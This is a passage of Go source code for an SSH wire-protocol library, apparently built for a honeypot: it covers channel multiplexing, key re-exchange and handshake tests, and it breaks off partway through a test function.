func ParseDisconnect(payload []byte) (*DisconnectMsg, error) {
	r := NewReader(payload)
	if t := r.Byte(); t != MsgDisconnect {
		return nil, fmt.Errorf("sshwire: expected DISCONNECT, got %s", MsgName(t))
	}
	m := &DisconnectMsg{Reason: r.Uint32(), Description: r.StringS()}
	if err := r.Err(); err != nil {
		return nil, err
	}
	return m, nil
}
