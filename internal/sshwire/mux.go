package sshwire

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"sync"
)

// Channel-layer defaults.
const (
	defaultWindow    = 2 * 1024 * 1024
	defaultMaxPacket = 32 * 1024
)

// ErrMuxClosed is returned by mux operations after the connection ended.
var ErrMuxClosed = errors.New("sshwire: connection closed")

// Mux multiplexes SSH channels (RFC 4254) over an established transport
// Conn. It owns the read side of the Conn: after NewMux, callers must not
// call Conn.ReadPacket themselves.
type Mux struct {
	conn *Conn

	incoming chan *NewChannel

	mu       sync.Mutex
	channels map[uint32]*Channel
	nextID   uint32
	err      error
	done     chan struct{}

	// GlobalRequests receives RFC 4254 global requests ("tcpip-forward"
	// and friends). The mux replies failure automatically when the
	// channel is full or unread; honeypots typically just observe these.
	globalReqs chan GlobalRequest
}

// GlobalRequest is an RFC 4254 section 4 global request.
type GlobalRequest struct {
	Type      string
	WantReply bool
	Payload   []byte
}

// NewMux starts multiplexing channels over c. The returned Mux runs a
// background read loop until the connection fails or closes.
func NewMux(c *Conn) *Mux {
	m := &Mux{
		conn:       c,
		incoming:   make(chan *NewChannel, 16),
		channels:   make(map[uint32]*Channel),
		done:       make(chan struct{}),
		globalReqs: make(chan GlobalRequest, 16),
	}
	go m.loop()
	return m
}

// Incoming returns the stream of channel-open requests from the peer.
// The channel is closed when the connection ends.
func (m *Mux) Incoming() <-chan *NewChannel { return m.incoming }

// GlobalRequests returns observed global requests.
func (m *Mux) GlobalRequests() <-chan GlobalRequest { return m.globalReqs }

// Wait blocks until the mux read loop exits and returns its error.
// io.EOF indicates a clean connection teardown.
func (m *Mux) Wait() error {
	<-m.done
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.err
}

// Close tears down the connection and all channels.
func (m *Mux) Close() error { return m.conn.Close() }

// Conn returns the underlying transport connection.
func (m *Mux) Conn() *Conn { return m.conn }

func (m *Mux) registerLocal(ch *Channel) uint32 {
	m.mu.Lock()
	defer m.mu.Unlock()
	id := m.nextID
	m.nextID++
	m.channels[id] = ch
	return id
}

func (m *Mux) lookup(id uint32) *Channel {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.channels[id]
}

func (m *Mux) forget(id uint32) {
	m.mu.Lock()
	defer m.mu.Unlock()
	delete(m.channels, id)
}

// OpenChannel opens a channel of the given type to the peer (client use).
func (m *Mux) OpenChannel(name string, extra []byte) (*Channel, error) {
	ch := newChannel(m, defaultWindow, defaultMaxPacket)
	ch.localID = m.registerLocal(ch)

	b := NewBuilder(64 + len(extra))
	b.Byte(MsgChannelOpen)
	b.StringS(name)
	b.Uint32(ch.localID)
	b.Uint32(defaultWindow)
	b.Uint32(defaultMaxPacket)
	b.Raw(extra)
	if err := m.conn.WritePacket(b.Bytes()); err != nil {
		m.forget(ch.localID)
		return nil, err
	}
	select {
	case <-ch.opened:
	case <-m.done:
		return nil, m.Wait()
	}
	if ch.openErr != nil {
		m.forget(ch.localID)
		return nil, ch.openErr
	}
	return ch, nil
}

// OpenChannelError reports a peer's rejection of a channel open.
type OpenChannelError struct {
	Reason  uint32
	Message string
}

// Error implements the error interface.
func (e *OpenChannelError) Error() string {
	return fmt.Sprintf("sshwire: channel open rejected (reason %d): %s", e.Reason, e.Message)
}

// NewChannel is a channel-open request from the peer, awaiting Accept or
// Reject.
type NewChannel struct {
	mux       *Mux
	ChanType  string
	ExtraData []byte

	remoteID        uint32
	remoteWindow    uint32
	remoteMaxPacket uint32
}

// Accept confirms the channel open and returns the live channel.
func (nc *NewChannel) Accept() (*Channel, error) {
	ch := newChannel(nc.mux, defaultWindow, defaultMaxPacket)
	ch.remoteID = nc.remoteID
	ch.remoteWindow = uint64(nc.remoteWindow)
	ch.remoteMaxPacket = nc.remoteMaxPacket
	ch.localID = nc.mux.registerLocal(ch)

	b := NewBuilder(24)
	b.Byte(MsgChannelOpenConfirmation)
	b.Uint32(nc.remoteID)
	b.Uint32(ch.localID)
	b.Uint32(defaultWindow)
	b.Uint32(defaultMaxPacket)
	if err := nc.mux.conn.WritePacket(b.Bytes()); err != nil {
		nc.mux.forget(ch.localID)
		return nil, err
	}
	return ch, nil
}

// Reject declines the channel open.
func (nc *NewChannel) Reject(reason uint32, message string) error {
	b := NewBuilder(24 + len(message))
	b.Byte(MsgChannelOpenFailure)
	b.Uint32(nc.remoteID)
	b.Uint32(reason)
	b.StringS(message)
	b.StringS("")
	return nc.mux.conn.WritePacket(b.Bytes())
}

// Request is a channel request ("exec", "shell", "pty-req", ...).
type Request struct {
	Type      string
	WantReply bool
	Payload   []byte

	ch *Channel
}

// Reply answers the request if the peer asked for a reply.
func (r *Request) Reply(ok bool) error {
	if !r.WantReply {
		return nil
	}
	msg := byte(MsgChannelSuccess)
	if !ok {
		msg = MsgChannelFailure
	}
	b := NewBuilder(5)
	b.Byte(msg)
	b.Uint32(r.ch.remoteID)
	return r.ch.mux.conn.WritePacket(b.Bytes())
}

// Channel is an established SSH channel. Read returns peer data; Write
// sends data to the peer, respecting the peer's flow-control window.
type Channel struct {
	mux *Mux

	localID  uint32
	remoteID uint32

	opened  chan struct{}
	openErr error

	requests chan *Request

	// Inbound data buffer with condition-variable signaling.
	dmu       sync.Mutex
	dcond     *sync.Cond
	buf       bytes.Buffer
	eof       bool
	closed    bool
	sentEOF   bool
	sentClose bool
	replyCh   chan bool

	// Outbound flow control.
	wmu             sync.Mutex
	wcond           *sync.Cond
	remoteWindow    uint64
	remoteMaxPacket uint32

	localWindow uint32
}

func newChannel(m *Mux, window, maxPacket uint32) *Channel {
	ch := &Channel{
		mux:         m,
		opened:      make(chan struct{}),
		requests:    make(chan *Request, 16),
		localWindow: window,
	}
	ch.dcond = sync.NewCond(&ch.dmu)
	ch.wcond = sync.NewCond(&ch.wmu)
	_ = maxPacket
	return ch
}

// Requests returns the stream of channel requests from the peer. The
// channel is closed when the peer closes the SSH channel.
func (ch *Channel) Requests() <-chan *Request { return ch.requests }

// Read returns data sent by the peer. It blocks until data, EOF, or
// channel close.
func (ch *Channel) Read(p []byte) (int, error) {
	ch.dmu.Lock()
	defer ch.dmu.Unlock()
	for ch.buf.Len() == 0 && !ch.eof && !ch.closed {
		ch.dcond.Wait()
	}
	if ch.buf.Len() > 0 {
		n, _ := ch.buf.Read(p)
		return n, nil
	}
	return 0, io.EOF
}

// Write sends data to the peer, fragmenting to the peer's maximum packet
// size and blocking on the peer's window.
func (ch *Channel) Write(p []byte) (int, error) {
	total := 0
	for len(p) > 0 {
		ch.wmu.Lock()
		for ch.remoteWindow == 0 && !ch.closedLocked() {
			ch.wcond.Wait()
		}
		if ch.closedLocked() {
			ch.wmu.Unlock()
			return total, ErrMuxClosed
		}
		n := len(p)
		if max := int(ch.remoteMaxPacket) - 64; max > 0 && n > max {
			n = max
		}
		if uint64(n) > ch.remoteWindow {
			n = int(ch.remoteWindow)
		}
		ch.remoteWindow -= uint64(n)
		ch.wmu.Unlock()

		b := NewBuilder(16 + n)
		b.Byte(MsgChannelData)
		b.Uint32(ch.remoteID)
		b.String(p[:n])
		if err := ch.mux.conn.WritePacket(b.Bytes()); err != nil {
			return total, err
		}
		total += n
		p = p[n:]
	}
	return total, nil
}

func (ch *Channel) closedLocked() bool {
	ch.dmu.Lock()
	defer ch.dmu.Unlock()
	return ch.closed
}

// SendRequest issues a channel request and, if wantReply, waits for the
// peer's success/failure answer.
func (ch *Channel) SendRequest(name string, wantReply bool, payload []byte) (bool, error) {
	b := NewBuilder(16 + len(name) + len(payload))
	b.Byte(MsgChannelRequest)
	b.Uint32(ch.remoteID)
	b.StringS(name)
	b.Bool(wantReply)
	b.Raw(payload)
	if err := ch.mux.conn.WritePacket(b.Bytes()); err != nil {
		return false, err
	}
	if !wantReply {
		return true, nil
	}
	select {
	case ok, alive := <-ch.replies():
		if !alive {
			return false, ErrMuxClosed
		}
		return ok, nil
	case <-ch.mux.done:
		return false, ErrMuxClosed
	}
}

// replies lazily creates the reply channel used by SendRequest.
func (ch *Channel) replies() chan bool {
	ch.dmu.Lock()
	defer ch.dmu.Unlock()
	if ch.replyCh == nil {
		ch.replyCh = make(chan bool, 16)
	}
	return ch.replyCh
}

// CloseWrite sends EOF: no more data will be written.
func (ch *Channel) CloseWrite() error {
	ch.dmu.Lock()
	if ch.sentEOF || ch.sentClose {
		ch.dmu.Unlock()
		return nil
	}
	ch.sentEOF = true
	ch.dmu.Unlock()
	b := NewBuilder(5)
	b.Byte(MsgChannelEOF)
	b.Uint32(ch.remoteID)
	return ch.mux.conn.WritePacket(b.Bytes())
}

// Close closes the channel in both directions.
func (ch *Channel) Close() error {
	ch.dmu.Lock()
	if ch.sentClose {
		ch.dmu.Unlock()
		return nil
	}
	ch.sentClose = true
	ch.dmu.Unlock()
	b := NewBuilder(5)
	b.Byte(MsgChannelClose)
	b.Uint32(ch.remoteID)
	return ch.mux.conn.WritePacket(b.Bytes())
}

// SendExitStatus sends the RFC 4254 section 6.10 exit-status request.
func (ch *Channel) SendExitStatus(status uint32) error {
	b := NewBuilder(32)
	b.Byte(MsgChannelRequest)
	b.Uint32(ch.remoteID)
	b.StringS("exit-status")
	b.Bool(false)
	b.Uint32(status)
	return ch.mux.conn.WritePacket(b.Bytes())
}

func (ch *Channel) deliverData(data []byte) error {
	ch.dmu.Lock()
	ch.buf.Write(data)
	ch.dcond.Broadcast()
	ch.dmu.Unlock()

	// Immediately restore the peer's window: the honeypot consumes all
	// input, so aggressive re-crediting keeps bots from stalling.
	b := NewBuilder(12)
	b.Byte(MsgChannelWindowAdjust)
	b.Uint32(ch.remoteID)
	b.Uint32(uint32(len(data)))
	return ch.mux.conn.WritePacket(b.Bytes())
}

func (ch *Channel) markEOF() {
	ch.dmu.Lock()
	ch.eof = true
	ch.dcond.Broadcast()
	ch.dmu.Unlock()
}

func (ch *Channel) markClosed() {
	ch.dmu.Lock()
	already := ch.closed
	ch.closed = true
	if ch.replyCh != nil {
		close(ch.replyCh)
		ch.replyCh = nil
	}
	ch.dcond.Broadcast()
	ch.dmu.Unlock()
	ch.wmu.Lock()
	ch.wcond.Broadcast()
	ch.wmu.Unlock()
	if !already {
		close(ch.requests)
	}
}

// loop is the mux read loop: it dispatches every inbound packet.
func (m *Mux) loop() {
	err := m.run()
	m.mu.Lock()
	m.err = err
	chans := make([]*Channel, 0, len(m.channels))
	for _, ch := range m.channels {
		chans = append(chans, ch)
	}
	m.channels = map[uint32]*Channel{}
	m.mu.Unlock()
	for _, ch := range chans {
		select {
		case <-ch.opened:
		default:
			ch.openErr = err
			close(ch.opened)
		}
		ch.markClosed()
	}
	close(m.incoming)
	close(m.done)
}

func (m *Mux) run() error {
	for {
		payload, err := m.conn.ReadPacket()
		if err != nil {
			return err
		}
		switch payload[0] {
		case MsgChannelOpen:
			if err := m.handleOpen(payload); err != nil {
				return err
			}
		case MsgChannelOpenConfirmation:
			r := NewReader(payload[1:])
			local := r.Uint32()
			remote := r.Uint32()
			window := r.Uint32()
			maxPkt := r.Uint32()
			if err := r.Err(); err != nil {
				return err
			}
			ch := m.lookup(local)
			if ch == nil {
				continue
			}
			ch.remoteID = remote
			ch.wmu.Lock()
			ch.remoteWindow = uint64(window)
			ch.remoteMaxPacket = maxPkt
			ch.wmu.Unlock()
			close(ch.opened)
		case MsgChannelOpenFailure:
			r := NewReader(payload[1:])
			local := r.Uint32()
			reason := r.Uint32()
			msg := r.StringS()
			ch := m.lookup(local)
			if ch == nil {
				continue
			}
			ch.openErr = &OpenChannelError{Reason: reason, Message: msg}
			close(ch.opened)
		case MsgChannelWindowAdjust:
			r := NewReader(payload[1:])
			local := r.Uint32()
			delta := r.Uint32()
			ch := m.lookup(local)
			if ch == nil {
				continue
			}
			ch.wmu.Lock()
			ch.remoteWindow += uint64(delta)
			ch.wcond.Broadcast()
			ch.wmu.Unlock()
		case MsgChannelData:
			r := NewReader(payload[1:])
			local := r.Uint32()
			data := r.String()
			if err := r.Err(); err != nil {
				return err
			}
			ch := m.lookup(local)
			if ch == nil {
				continue
			}
			if err := ch.deliverData(data); err != nil {
				return err
			}
		case MsgChannelExtendedData:
			r := NewReader(payload[1:])
			local := r.Uint32()
			r.Uint32() // data type code (stderr); merged into main stream
			data := r.String()
			if err := r.Err(); err != nil {
				return err
			}
			ch := m.lookup(local)
			if ch == nil {
				continue
			}
			if err := ch.deliverData(data); err != nil {
				return err
			}
		case MsgChannelEOF:
			r := NewReader(payload[1:])
			if ch := m.lookup(r.Uint32()); ch != nil {
				ch.markEOF()
			}
		case MsgChannelClose:
			r := NewReader(payload[1:])
			id := r.Uint32()
			if ch := m.lookup(id); ch != nil {
				_ = ch.Close() // reply-close if we have not already
				ch.markClosed()
				m.forget(id)
			}
		case MsgChannelRequest:
			r := NewReader(payload[1:])
			local := r.Uint32()
			name := r.StringS()
			wantReply := r.Bool()
			rest := bytes.Clone(r.Rest())
			if err := r.Err(); err != nil {
				return err
			}
			ch := m.lookup(local)
			if ch == nil {
				continue
			}
			req := &Request{Type: name, WantReply: wantReply, Payload: rest, ch: ch}
			select {
			case ch.requests <- req:
			default:
				// Slow consumer: fail the request rather than deadlock.
				_ = req.Reply(false)
			}
		case MsgChannelSuccess:
			r := NewReader(payload[1:])
			if ch := m.lookup(r.Uint32()); ch != nil {
				ch.deliverReply(true)
			}
		case MsgChannelFailure:
			r := NewReader(payload[1:])
			if ch := m.lookup(r.Uint32()); ch != nil {
				ch.deliverReply(false)
			}
		case MsgGlobalRequest:
			r := NewReader(payload[1:])
			name := r.StringS()
			wantReply := r.Bool()
			rest := bytes.Clone(r.Rest())
			gr := GlobalRequest{Type: name, WantReply: wantReply, Payload: rest}
			select {
			case m.globalReqs <- gr:
			default:
			}
			if wantReply {
				if err := m.conn.WritePacket([]byte{MsgRequestFailure}); err != nil {
					return err
				}
			}
		default:
			// Unknown message: reply UNIMPLEMENTED per RFC 4253 11.4.
			b := NewBuilder(5)
			b.Byte(MsgUnimplemented)
			b.Uint32(m.conn.readSeq - 1)
			if err := m.conn.WritePacket(b.Bytes()); err != nil {
				return err
			}
		}
	}
}

func (ch *Channel) deliverReply(ok bool) {
	ch.dmu.Lock()
	defer ch.dmu.Unlock()
	if ch.replyCh == nil {
		ch.replyCh = make(chan bool, 16)
	}
	select {
	case ch.replyCh <- ok:
	default:
	}
}

func (m *Mux) handleOpen(payload []byte) error {
	r := NewReader(payload[1:])
	chanType := r.StringS()
	remoteID := r.Uint32()
	window := r.Uint32()
	maxPkt := r.Uint32()
	extra := bytes.Clone(r.Rest())
	if err := r.Err(); err != nil {
		return err
	}
	nc := &NewChannel{
		mux:             m,
		ChanType:        chanType,
		ExtraData:       extra,
		remoteID:        remoteID,
		remoteWindow:    window,
		remoteMaxPacket: maxPkt,
	}
	select {
	case m.incoming <- nc:
		return nil
	default:
		return nc.Reject(OpenResourceShortage, "too many pending channels")
	}
}
