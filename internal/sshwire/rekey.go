package sshwire

import (
	"bytes"
	"errors"
	"fmt"
)

// Rekeying (RFC 4253 section 9). Either side may initiate a new key
// exchange at any time after the initial handshake by sending
// SSH_MSG_KEXINIT; application packets are forbidden between a side's
// KEXINIT and its NEWKEYS. The session identifier keeps the value of the
// first exchange hash.
//
// The read loop (ReadPacket) detects an inbound KEXINIT and completes the
// exchange inline while a condition variable gates application writes.

// RequestRekey initiates a key re-exchange. It returns once our KEXINIT
// is on the wire; the exchange completes inside the connection's read
// loop (so the caller — or the Mux — must keep reading). Calling it
// while a rekey is already in flight is a no-op.
func (c *Conn) RequestRekey() error {
	init, err := c.makeKexInit()
	if err != nil {
		return err
	}
	initBytes := init.Marshal()

	c.wmu.Lock()
	defer c.wmu.Unlock()
	if c.rekeying {
		return nil
	}
	c.rekeying = true
	c.ourPendingInit = initBytes
	err = c.writer.writePacket(c.conn, c.writeSeq, initBytes)
	c.writeSeq++
	if err != nil {
		c.rekeying = false
		c.ourPendingInit = nil
		c.wcond.Broadcast()
	}
	return err
}

// beginPeerRekey marks the connection as rekeying (peer initiated) and
// sends our KEXINIT if we have not already sent one. It returns our
// KEXINIT payload.
func (c *Conn) beginPeerRekey() ([]byte, error) {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	if c.rekeying && c.ourPendingInit != nil {
		return c.ourPendingInit, nil
	}
	init, err := c.makeKexInit()
	if err != nil {
		return nil, err
	}
	initBytes := init.Marshal()
	c.rekeying = true
	c.ourPendingInit = initBytes
	err = c.writer.writePacket(c.conn, c.writeSeq, initBytes)
	c.writeSeq++
	if err != nil {
		return nil, err
	}
	return initBytes, nil
}

// writeKexPacket sends a packet during a rekey, bypassing the
// application-write gate.
func (c *Conn) writeKexPacket(payload []byte) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	err := c.writer.writePacket(c.conn, c.writeSeq, payload)
	c.writeSeq++
	return err
}

// readKexPacket reads the next packet during a rekey. The caller already
// holds rmu (we are inside ReadPacket). IGNORE/DEBUG are skipped; any
// non-kex message is a protocol error.
func (c *Conn) readKexPacket() ([]byte, error) {
	for {
		payload, err := c.reader.readPacket(c.br, c.readSeq)
		c.readSeq++
		if err != nil {
			return nil, err
		}
		if len(payload) == 0 {
			return nil, errors.New("sshwire: empty packet during rekey")
		}
		switch payload[0] {
		case MsgIgnore, MsgDebug:
			continue
		case MsgDisconnect:
			m, perr := ParseDisconnect(payload)
			if perr != nil {
				return nil, perr
			}
			return nil, m
		default:
			return payload, nil
		}
	}
}

// handleRekey completes a key re-exchange after the peer's KEXINIT
// payload arrived on the read path. It is called with rmu held.
func (c *Conn) handleRekey(theirInitBytes []byte) error {
	theirInit, err := ParseKexInit(theirInitBytes)
	if err != nil {
		return err
	}
	ourInitBytes, err := c.beginPeerRekey()
	if err != nil {
		return err
	}
	ourInit, err := ParseKexInit(ourInitBytes)
	if err != nil {
		return err
	}

	var res *kexResult
	var algs negotiatedAlgs
	if c.isServer {
		a, err := negotiateAlgs(theirInit, ourInit)
		if err != nil {
			return err
		}
		algs = a
		if c.hostKey == nil {
			return errors.New("sshwire: server rekey without host key")
		}
		in := exchangeHashInputs{
			clientVersion: c.remoteVersion,
			serverVersion: c.localVersion,
			clientKexInit: theirInitBytes,
			serverKexInit: ourInitBytes,
		}
		ecdhInit, err := c.readKexPacket()
		if err != nil {
			return err
		}
		reply, r, err := kexServer(c.hostKey, in, ecdhInit)
		if err != nil {
			return err
		}
		if err := c.writeKexPacket(reply); err != nil {
			return err
		}
		res = r
	} else {
		a, err := negotiateAlgs(ourInit, theirInit)
		if err != nil {
			return err
		}
		algs = a
		priv, initPayload, err := kexClientInit()
		if err != nil {
			return err
		}
		if err := c.writeKexPacket(initPayload); err != nil {
			return err
		}
		replyPayload, err := c.readKexPacket()
		if err != nil {
			return err
		}
		if replyPayload[0] != MsgKexECDHReply {
			return fmt.Errorf("sshwire: expected KEX_ECDH_REPLY during rekey, got %s", MsgName(replyPayload[0]))
		}
		in := exchangeHashInputs{
			clientVersion: c.localVersion,
			serverVersion: c.remoteVersion,
			clientKexInit: ourInitBytes,
			serverKexInit: theirInitBytes,
		}
		r, err := kexClientFinish(priv, in, replyPayload, c.hostKeyCheck)
		if err != nil {
			return err
		}
		res = r
	}

	// NEWKEYS both ways; the session ID keeps the FIRST exchange hash.
	if err := c.writeKexPacket([]byte{MsgNewKeys}); err != nil {
		return err
	}
	nk, err := c.readKexPacket()
	if err != nil {
		return err
	}
	if nk[0] != MsgNewKeys {
		return fmt.Errorf("sshwire: expected NEWKEYS during rekey, got %s", MsgName(nk[0]))
	}

	c2sKey, c2sIV, c2sMAC := directionKeys(res.K, res.H, c.sessionID, algs.c2sCipher, algs.c2sMAC, 'A', 'C', 'E')
	s2cKey, s2cIV, s2cMAC := directionKeys(res.K, res.H, c.sessionID, algs.s2cCipher, algs.s2cMAC, 'B', 'D', 'F')
	c2s, err := newCTRCipher(algs.c2sCipher, algs.c2sMAC, c2sKey, c2sIV, c2sMAC)
	if err != nil {
		return err
	}
	s2c, err := newCTRCipher(algs.s2cCipher, algs.s2cMAC, s2cKey, s2cIV, s2cMAC)
	if err != nil {
		return err
	}

	c.wmu.Lock()
	if c.isServer {
		c.reader, c.writer = c2s, s2c
	} else {
		c.reader, c.writer = s2c, c2s
	}
	c.algs = algs
	c.hostKeyBlob = bytes.Clone(res.HostKeyBlob)
	c.rekeys++
	c.rekeying = false
	c.ourPendingInit = nil
	c.wcond.Broadcast()
	c.wmu.Unlock()
	return nil
}

// Rekeys reports how many successful re-exchanges have completed.
func (c *Conn) Rekeys() int {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return c.rekeys
}
