package sshwire

import (
	"bufio"
	"bytes"
	"errors"
	"net"
	"testing"
	"time"
)

// handshakePair establishes a server/client transport pair over an
// in-process TCP connection and returns both ends.
func handshakePair(t *testing.T, serverCfg, clientCfg *Config) (*Conn, *Conn) {
	t.Helper()
	if serverCfg == nil {
		hk, err := GenerateHostKey()
		if err != nil {
			t.Fatal(err)
		}
		serverCfg = &Config{HostKey: hk}
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()

	type result struct {
		conn *Conn
		err  error
	}
	srvCh := make(chan result, 1)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			srvCh <- result{nil, err}
			return
		}
		sc, err := ServerHandshake(c, serverCfg)
		srvCh <- result{sc, err}
	}()

	nc, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	cc, err := ClientHandshake(nc, clientCfg)
	if err != nil {
		t.Fatalf("client handshake: %v", err)
	}
	sr := <-srvCh
	if sr.err != nil {
		t.Fatalf("server handshake: %v", sr.err)
	}
	t.Cleanup(func() {
		cc.Close()
		sr.conn.Close()
	})
	return sr.conn, cc
}

func TestHandshakeAndEncryptedExchange(t *testing.T) {
	srv, cli := handshakePair(t, nil, nil)

	if !bytes.Equal(srv.SessionID(), cli.SessionID()) {
		t.Error("session IDs differ")
	}
	if len(srv.SessionID()) != 32 {
		t.Errorf("session ID length = %d, want 32", len(srv.SessionID()))
	}
	if !bytes.Equal(srv.ServerHostKeyBlob(), cli.ServerHostKeyBlob()) {
		t.Error("host key blobs differ")
	}
	if srv.RemoteVersion() != DefaultClientVersion {
		t.Errorf("server saw version %q", srv.RemoteVersion())
	}
	if cli.RemoteVersion() != DefaultServerVersion {
		t.Errorf("client saw version %q", cli.RemoteVersion())
	}

	// Ping-pong several packets in both directions through the
	// post-NEWKEYS ciphers.
	for i := 0; i < 10; i++ {
		msg := append([]byte{200}, bytes.Repeat([]byte{byte(i)}, i*37)...)
		if err := cli.WritePacket(msg); err != nil {
			t.Fatal(err)
		}
		got, err := srv.ReadPacket()
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, msg) {
			t.Fatalf("round %d: payload mismatch", i)
		}
		if err := srv.WritePacket(msg); err != nil {
			t.Fatal(err)
		}
		got, err = cli.ReadPacket()
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, msg) {
			t.Fatalf("round %d: reverse payload mismatch", i)
		}
	}
}

func TestHandshakeCustomVersions(t *testing.T) {
	hk, _ := GenerateHostKey()
	srv, cli := handshakePair(t,
		&Config{HostKey: hk, Version: "SSH-2.0-OpenSSH_7.4"},
		&Config{Version: "SSH-2.0-libssh2_1.8.0"})
	if cli.RemoteVersion() != "SSH-2.0-OpenSSH_7.4" {
		t.Errorf("client saw %q", cli.RemoteVersion())
	}
	if srv.RemoteVersion() != "SSH-2.0-libssh2_1.8.0" {
		t.Errorf("server saw %q", srv.RemoteVersion())
	}
}

func TestHostKeyCheckRejection(t *testing.T) {
	hk, _ := GenerateHostKey()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		_, _ = ServerHandshake(c, &Config{HostKey: hk})
		c.Close()
	}()
	nc, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	wantErr := errors.New("untrusted host")
	_, err = ClientHandshake(nc, &Config{
		HostKeyCheck: func([]byte) error { return wantErr },
	})
	if !errors.Is(err, wantErr) {
		t.Errorf("handshake error = %v, want %v", err, wantErr)
	}
}

func TestServiceRequestAccept(t *testing.T) {
	srv, cli := handshakePair(t, nil, nil)
	done := make(chan error, 1)
	go func() {
		name, err := srv.AcceptService("ssh-userauth")
		if err == nil && name != "ssh-userauth" {
			err = errors.New("wrong service name: " + name)
		}
		done <- err
	}()
	if err := cli.RequestService("ssh-userauth"); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
}

func TestServiceRequestDenied(t *testing.T) {
	srv, cli := handshakePair(t, nil, nil)
	go func() {
		_, _ = srv.AcceptService("ssh-userauth")
	}()
	err := cli.RequestService("ssh-connection")
	if err == nil {
		t.Fatal("disallowed service should fail")
	}
	var d *DisconnectMsg
	if !errors.As(err, &d) {
		t.Errorf("want DisconnectMsg error, got %T: %v", err, err)
	}
}

func TestIgnoreAndDebugAreTransparent(t *testing.T) {
	srv, cli := handshakePair(t, nil, nil)
	if err := cli.WritePacket([]byte{MsgIgnore, 0, 0, 0, 0}); err != nil {
		t.Fatal(err)
	}
	dbg := NewBuilder(16)
	dbg.Byte(MsgDebug).Bool(false).StringS("dbg").StringS("")
	if err := cli.WritePacket(dbg.Bytes()); err != nil {
		t.Fatal(err)
	}
	if err := cli.WritePacket([]byte{123}); err != nil {
		t.Fatal(err)
	}
	got, err := srv.ReadPacket()
	if err != nil {
		t.Fatal(err)
	}
	if got[0] != 123 {
		t.Errorf("got message %d, want 123", got[0])
	}
}

func TestDisconnectPropagates(t *testing.T) {
	srv, cli := handshakePair(t, nil, nil)
	go func() {
		_ = srv.Disconnect(DisconnectByApplication, "goodbye")
	}()
	_, err := cli.ReadPacket()
	var d *DisconnectMsg
	if !errors.As(err, &d) {
		t.Fatalf("want DisconnectMsg, got %v", err)
	}
	if d.Reason != DisconnectByApplication || d.Description != "goodbye" {
		t.Errorf("got %+v", d)
	}
}

func TestHandshakeTimeout(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		// Accept but never speak: client must time out.
		defer c.Close()
		time.Sleep(2 * time.Second)
	}()
	nc, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	start := time.Now()
	_, err = ClientHandshake(nc, &Config{HandshakeTimeout: 100 * time.Millisecond})
	if err == nil {
		t.Fatal("handshake against silent peer should fail")
	}
	if elapsed := time.Since(start); elapsed > time.Second {
		t.Errorf("timeout took %v, want ~100ms", elapsed)
	}
}

func TestServerRequiresHostKey(t *testing.T) {
	c1, c2 := net.Pipe()
	defer c1.Close()
	defer c2.Close()
	if _, err := ServerHandshake(c1, &Config{}); err == nil {
		t.Error("server handshake without host key should fail")
	}
}

func TestVersionExchangeSkipsBannerLines(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		// Pre-version banner lines are legal from servers.
		c.Write([]byte("Welcome to the machine\r\nNo really\r\nSSH-2.0-TestServer\r\n"))
		// Not a full server; the client will fail after versions, which
		// is fine — we only check version parsing.
		buf := make([]byte, 4096)
		c.Read(buf)
		time.Sleep(50 * time.Millisecond)
	}()
	nc, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	br := bufio.NewReader(nc)
	got, err := exchangeVersions(nc, br, DefaultClientVersion, true)
	if err != nil {
		t.Fatal(err)
	}
	if got != "SSH-2.0-TestServer" {
		t.Errorf("version = %q", got)
	}
}

func BenchmarkTransportThroughput(b *testing.B) {
	hk, _ := GenerateHostKey()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	defer ln.Close()
	srvCh := make(chan *Conn, 1)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		sc, err := ServerHandshake(c, &Config{HostKey: hk})
		if err != nil {
			return
		}
		srvCh <- sc
	}()
	nc, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		b.Fatal(err)
	}
	cli, err := ClientHandshake(nc, nil)
	if err != nil {
		b.Fatal(err)
	}
	srv := <-srvCh
	defer cli.Close()
	defer srv.Close()

	payload := make([]byte, 4096)
	payload[0] = 200
	go func() {
		for {
			if _, err := srv.ReadPacket(); err != nil {
				return
			}
		}
	}()
	b.SetBytes(int64(len(payload)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := cli.WritePacket(payload); err != nil {
			b.Fatal(err)
		}
	}
}

func TestNegotiatedAlgorithmsExposed(t *testing.T) {
	hk, _ := GenerateHostKey()
	// Client prefers aes256-ctr + hmac-sha2-512; server accepts both.
	srv, cli := handshakePair(t,
		&Config{HostKey: hk},
		&Config{Ciphers: []string{CipherAES256CTR, CipherAES128CTR},
			MACs: []string{MACHmacSHA512, MACHmacSHA256}})
	if got := cli.Algorithms(); got.C2SCipher != CipherAES256CTR || got.C2SMAC != MACHmacSHA512 {
